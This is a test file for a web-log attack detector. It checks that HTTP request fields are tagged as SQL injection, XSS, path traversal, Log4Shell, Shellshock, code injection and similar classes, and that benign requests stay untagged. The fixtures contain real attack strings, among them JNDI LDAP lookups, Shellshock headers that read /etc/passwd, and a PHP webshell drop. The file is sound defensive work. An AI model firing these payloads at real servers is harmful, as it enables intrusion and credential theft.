import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { agentPatternBits, attackTags, headerPatternBits, tagsOfPatterns, targetPatternBits } from '../../src/features/attack-tags.js';
import { ATTACK_PATTERNS, HEADER_PAYLOAD_MARKERS } from '../../src/features/attack-patterns.js';
import { cpuMs } from '../helpers/cpu-time.js';
import { needs } from '../helpers/needs.js';
import { DATA, SCANNER_LOGS } from './attack-mix.js';
import { readCombinedLog } from './combined-log.js';
import { record } from './record.js';

const PAYLOADS = `${DATA}httpparams/payload_full.csv`;
const CLASS_TAG: Record<string, string> = { sqli: 'sql_injection', xss: 'xss', cmdi: 'command_injection', 'path-traversal': 'path_traversal' };

describe('attackTags', () => {
  it.each([
    [{ query: 'id=1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--' }, ['sql_injection']],
    [{ query: 'id=1/**/union/**/select/**/1' }, ['sql_injection']],
    [{ query: 'q=%253Cscript%253Ealert(1)%253C%252Fscript%253E' }, ['xss']],
    [{ path: '/static/..%2f..%2f..%2fetc/passwd' }, ['path_traversal', 'sensitive_file_probe']],
    [{ path: '/a/%c0%ae%c0%ae/%c0%ae%c0%ae/boot' }, ['path_traversal']],
    [{ query: 'host=127.0.0.1%3Bcat%20%2Fetc%2Fhosts' }, ['path_traversal', 'command_injection']],
    [{ query: 'url=file:///etc/hostname' }, ['path_traversal']],
    [{ query: 'src=file://c:/boot.txt' }, ['path_traversal']],
    [{ path: '/.env' }, ['sensitive_file_probe']],
    [{ path: '/backup.sql' }, ['sensitive_file_probe']],
    [{ path: '/backup/.bash_history' }, ['sensitive_file_probe']],
    [{ path: '/old/public_html.zip' }, ['sensitive_file_probe']],
    [{ path: '/bak/www.example.com.tar.gz' }, ['sensitive_file_probe']],
    [{ userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, ['scanner_user_agent']],
    [{ userAgent: '${jndi:ldap://x.example/a}' }, ['log4shell']],
    [{ referer: '${${lower:j}ndi:ldap://x/}' }, ['log4shell']],
    [{ referer: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.invalid/a}' }, ['log4shell']],
    [{ userAgent: '() { :; }; /bin/cat /etc/passwd' }, ['command_injection', 'shellshock']],
    [{ userAgent: '() { _; } >_[$($())] { echo; id; }' }, ['shellshock']],
    [{ query: 'p=%20AND%201%3D0' }, ['sql_injection']],
    [{ path: 'http://www.example.cn/' }, ['proxy_probe']],
    [{ path: 'mail.example.com:25' }, ['proxy_probe']],
    [{ path: '/index.php', query: 'acunetix_wvs_security_test=1' }, ['scanner_marker']],
    // ThinkPHP's remote code execution (secrepo 2022), PHP eval in a query (netnea 5), a webshell drop.
    [{ path: '/index.php', query: 's=admin/%5Cthink%5Capp/invokefunction&function=base64_encode&vars%5B%5D=x' }, ['code_injection']],
    [{ path: '/', query: 'q=%7b$%7beval%2528$_POST%5bc%5d%2529%7d%7d' }, ['code_injection']],
    [{ path: '/x.php', query: 'a=file_put_contents(%27s.php%27,%27%3C?php%20@eval($_REQUEST[1]);%27)' }, ['code_injection']],
    [{ path: '/struts2', query: 'redirect:%24%7B%23_memberAccess%5B%22allowStaticMethodAccess%22%5D%3Dtrue%7D' }, ['code_injection']],
    // A script payload keeps its XSS tag; its eval( is code too.
    [{ query: 'q=<script>eval(name)</script>' }, ['xss', 'code_injection']],
    // Code Red's padding, and the WebDAV SEARCH overflow's NOP sled and filler (honeynet 2004).
    [{ path: '/default.ida', query: `${'X'.repeat(224)}%u9090%u6858%ucbd3%u7801=a` }, ['buffer_overflow']],
    [{ path: `/\u0090${'\u0002\u00b1'.repeat(200)}` }, ['buffer_overflow']],
  ])('tags %o as %o', (fields, tags) => {
    expect(attackTags(record(fields))).toEqual(tags);
  });

  it.each([
    { path: '/images/logo.png' },
    { path: '/search', query: 'q=select+a+color&page=2&id=5&type=shoes' },
    { path: '/blog/2015/05/union-station-select-menu' },
    { path: '/api/items', query: 'sort=name&order=asc&ls=1&cat=2' },
    { path: '/docs/..hidden' },
    { path: '/js/app.js', referer: 'https://example.com/?cb=function() {return 1}' },
    { path: '/band/and-1-more' },
    { path: '/redirect', query: 'to=http://example.com/' },
    { path: '/time/10:30' },
    // A crawler following links it misread in a script's source (MJ12bot, elastic-apache-logs).
    { path: '/scripts//%22file://$file/%22' },
    { path: '/misc/nmh//%22file://${path}/%22' },
    { path: '/download/report.pdf', userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
    // A site that publishes its own logs (secrepo.com), and downloads named after a product.
    { path: '/self.logs/access.log.2018-01-24.gz' },
    { path: '/files/example.com-logo.zip' },
    { path: '/releases/tool-1.2.tar.gz' },
    // Text about code is no code: a comment spammer's post on a programming site (elastic-apache-logs).
    { path: "/presentations/vim/+++Result:+%22i+never+really+liked+c%27s+assert%28%29+feature.%22" },
    // A hash of zeros, and a long but varied token, are no overflow.
    { path: '/tx', query: `hash=0x${'0'.repeat(64)}` },
    { path: '/s', query: `t=${'ab1cd2ef3'.repeat(30)}` },
  ])('leaves benign %o untagged', (fields) => {
    expect(attackTags(record(fields))).toEqual([]);
  });

  it('stays fast on pathological inputs', () => {
    const hostile = ['<'.repeat(8000), "'".repeat(8000), '../'.repeat(3000), '/*'.repeat(4000), `<a ${'on'.repeat(4000)}`, `${'${'.repeat(3000)}`, `select ${' '.repeat(8000)}`, '%25'.repeat(3000), 'a'.repeat(100_000)];
    const spent = cpuMs(() => {
      for (const text of hostile) {
        attackTags(record({ path: `/${text}`, query: `q=${text}`, userAgent: text, referer: text, cookie: text }));
      }
    });
    // CPU time, so a busy machine does not matter: the real cost is a few milliseconds; a backtracking
    // blow-up costs seconds.
    expect(spent).toBeLessThan(1000);
  });

  it.skipIf(!needs(existsSync(PAYLOADS), PAYLOADS))('tags the labelled HttpParams payloads with high precision and recall', () => {
    const counts: Record<string, { tp: number; fp: number; fn: number }> = {};
    let benignTagged = 0;
    for (const line of readFileSync(PAYLOADS, 'utf8').split('\n').slice(1)) {
      const match = /^"((?:[^"]|"")*)","\d+","([^"]+)","[^"]+"\r?$/.exec(line);
      if (match === null) continue;
      const [, payload = '', label = ''] = match;
      const tags = attackTags(record({ path: '/search', query: `q=${encodeURIComponent(payload.replaceAll('""', '"'))}` }));
      if (label === 'norm' && tags.length > 0) benignTagged++;
      for (const [cls, tag] of Object.entries(CLASS_TAG)) {
        const c = (counts[cls] ??= { tp: 0, fp: 0, fn: 0 });
        if (tags.includes(tag)) label === cls ? c.tp++ : c.fp++;
        else if (label === cls) c.fn++;
      }
    }
    const table = Object.fromEntries(Object.entries(counts).map(([cls, c]) => [cls, { precision: +(c.tp / (c.tp + c.fp)).toFixed(3), recall: +(c.tp / (c.tp + c.fn)).toFixed(3), ...c }]));
    console.log('attack tags on httpparams/payload_full.csv', table, { benignTagged });
    expect(benignTagged).toBeLessThanOrEqual(5);
    expect(table.sqli!.recall).toBeGreaterThan(0.95);
    expect(table.xss!.recall).toBeGreaterThan(0.9);
    expect(table['path-traversal']!.recall).toBeGreaterThan(0.8);
    expect(table.cmdi!.recall).toBeGreaterThan(0.7);
    for (const row of Object.values(table)) expect(row.precision).toBeGreaterThan(0.85);
  });

  // Most Acunetix lines are POSTs whose payload is in the unlogged body, and this w3af run mostly
  // crawled, so shares differ; every scanner is tagged, and together they show most classes.
  it.skipIf(!needs(SCANNER_LOGS.every(existsSync), SCANNER_LOGS.join(', ')))('tags real scanner lines', () => {
    const all = new Set<string>();
    for (const path of SCANNER_LOGS) {
      const records = readCombinedLog(path);
      const classes = new Set(records.flatMap((r) => attackTags(r)));
      const share = records.filter((r) => attackTags(r).length > 0).length / records.length;
      console.log(path.split('/').pop(), 'tagged share', share.toFixed(2), [...classes].join(','));
      for (const tag of classes) all.add(tag);
      expect(share).toBeGreaterThan(0.05);
    }
    expect([...all].sort()).toEqual(['buffer_overflow', 'code_injection', 'command_injection', 'path_traversal', 'proxy_probe', 'scanner_marker', 'scanner_user_agent', 'sensitive_file_probe', 'sql_injection', 'xss']);
  });
});

describe('HEADER_PAYLOAD_MARKERS', () => {
  // RequestMemo shares one answer among records whose referer and cookie hold no marker: that is
  // right only while every pattern that reads those headers needs one, literally, at its start.
  const expected: Record<string, string> = { log4shell: '${', shellshock: '()' };

  it('names a marker for every pattern that reads the referer and cookie, and each such pattern starts with it', () => {
    const everywhere = ATTACK_PATTERNS.filter((p) => p.field === 'everywhere');
    expect(everywhere.map((p) => p.tag).sort()).toEqual(Object.keys(expected).sort());
    expect([...HEADER_PAYLOAD_MARKERS].sort()).toEqual(Object.values(expected).sort());
    for (const { tag, regex } of everywhere) {
      const escaped = expected[tag]!.replace(/[$(){}]/g, '\\$&');
      // An optional lookbehind may come first (Shellshock's `(?<![\w$])`).
      expect(regex.source.replace(/^\(\?<![^)]*\)/, '').startsWith(escaped)).toBe(true);
    }
  });

  it('a header without a marker adds no tag: the same tags with it as without it', () => {
    const request = record({ path: '/a', query: 'q=1' });
    for (const header of ['http://example.com/?q=%24%7Bjndi%3A', '( ) { :; };', '$ {jndi:ldap://x}', 'session=abc; theme=dark']) {
      expect(attackTags({ ...request, referer: header, cookie: header })).toEqual(attackTags(request));
    }
  });
});

describe('attackTags in parts', () => {
  it('the union of the target, user-agent and header patterns gives the tags, in pattern order (hand-made)', () => {
    const r = record({ path: '/x', query: "id=1' union select 1--", userAgent: 'sqlmap/1.7 () { :; }; echo hi', referer: '${jndi:ldap://e/a}' });
    const target = targetPatternBits(r);
    const agent = agentPatternBits(r.userAgent);
    const headers = headerPatternBits(r, target | agent);
    expect(tagsOfPatterns(target)).toEqual(['sql_injection']);
    expect(tagsOfPatterns(agent)).toEqual(['shellshock', 'scanner_user_agent']);
    expect(tagsOfPatterns(headers)).toEqual(['log4shell']);
    expect(attackTags(r)).toEqual(['sql_injection', 'log4shell', 'shellshock', 'scanner_user_agent']);
    // Patterns already found are not tried on the headers again; empty headers are not tried at all.
    expect(headerPatternBits({ referer: '() { :; };', cookie: '' }, agent)).toBe(0);
    expect(headerPatternBits({ referer: '', cookie: '' }, 0)).toBe(0);
    expect(tagsOfPatterns(0)).toEqual([]);
  });
});
